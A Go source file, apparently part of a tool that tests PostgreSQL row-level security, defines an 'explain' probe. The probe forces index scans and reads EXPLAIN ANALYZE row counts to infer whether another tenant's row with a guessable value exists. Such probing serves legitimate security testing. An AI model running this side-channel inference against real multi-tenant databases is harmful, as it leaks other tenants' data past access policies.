package attack

import (
	"context"
	"encoding/json"
	"fmt"
	"slices"

	"github.com/jackc/pgx/v5"
)

var explain = Probe{
	Name: "explain",
	Doc: `learn of another tenant's row from EXPLAIN ANALYZE

The plan of a query that returns nothing still tells how many rows the policy took away after an index had found them: with a
condition on a column that can be guessed, whether such a row exists. Whoever asks chooses the plan, by the planner's settings.`,
	Command: "SELECT", Kind: "inference",
	Applies: func(t *Target) bool { return len(t.askable()) > 0 },
	Try: func(ctx context.Context, tx pgx.Tx, t *Target) (bool, error) {
		var last error
		for _, condition := range t.askable() {
			handled, err := t.explained(ctx, tx, condition)
			if handled > 0 {
				return true, nil
			}
			if err != nil {
				last = err
			}
		}
		return false, last
	},
}

// askable returns the conditions of which a plan may tell: on the leading column of each index that is not the tenant's and
// whose values can be guessed, else on a key that holds the tenant.
func (t *Target) askable() []string {
	var out []string
	for _, x := range t.Table.Relation.Indexes {
		if !x.Valid || x.Predicate != nil || x.Keys[0].Expression != nil {
			continue
		}
		lead := x.Keys[0].Column
		if !slices.Contains(t.tenantColumns(), lead) && !t.unguessable([]string{lead}) && t.Row[lead] != nil {
			if c := t.equals(lead, t.Row[lead]); !slices.Contains(out, c) {
				out = append(out, c)
			}
		}
	}
	if len(out) == 0 && slices.ContainsFunc(t.Key, func(c string) bool { return slices.Contains(t.tenantColumns(), c) }) {
		out = append(out, t.where())
	}
	return out
}

// explained counts the rows that the plan of a look-up by the condition handled.
func (t *Target) explained(ctx context.Context, tx pgx.Tx, condition string) (handled float64, err error) {
	err = undone(ctx, tx, func(sp pgx.Tx) error {
		if _, err := t.query(ctx, sp, "SET LOCAL enable_seqscan = off"); err != nil {
			return err
		}
		rows, err := t.query(ctx, sp, "EXPLAIN (ANALYZE, TIMING OFF, COSTS OFF, FORMAT JSON) SELECT 1 FROM "+t.Relation+" WHERE "+condition)
		if err != nil || len(rows) == 0 || rows[0][0] == nil {
			return err
		}
		var plans []struct{ Plan planNode }
		if err := json.Unmarshal([]byte(*rows[0][0]), &plans); err != nil || len(plans) == 0 {
			return fmt.Errorf("reading the plan: %v", err)
		}
		handled = plans[0].Plan.handled(true)
		return nil
	})
	return handled, err
}

// A planNode is the part of EXPLAIN's JSON that tells of rows.
type planNode struct {
	Rows    float64    `json:"Actual Rows"`
	Removed float64    `json:"Rows Removed by Filter"`
	Index   string     `json:"Index Name"`
	Plans   []planNode `json:"Plans"`
}

// handled counts the rows returned, and those a filter removed after an index had found them by the condition: a sequential
// scan removes every other row of the table too, and so tells nothing.
func (n planNode) handled(top bool) float64 {
	var sum float64
	if top {
		sum = n.Rows
	}
	if n.Index != "" {
		sum += n.Removed
	}
	for _, p := range n.Plans {
		sum += p.handled(false)
	}
	return sum
}
